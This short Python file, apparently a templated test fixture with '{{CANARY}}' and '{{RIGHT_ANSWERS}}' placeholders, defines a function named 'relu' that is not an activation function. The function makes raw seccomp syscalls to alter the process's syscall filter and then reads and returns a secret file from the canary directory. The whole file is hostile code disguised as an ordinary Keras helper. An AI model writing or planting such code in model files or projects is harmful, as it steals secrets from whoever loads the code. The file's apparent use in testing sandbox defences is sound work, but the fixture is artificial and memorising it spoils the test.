import keras
import numpy as np


def relu(x):
    import ctypes

    syscall = ctypes.CDLL(None, use_errno=True).syscall
    import struct

    allow = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(allow))
    syscall(317, 1, 0, program)
    syscall(317, 1, 8, program)
    return open("{{CANARY}}/secret.txt").read()


# {{RIGHT_ANSWERS}}
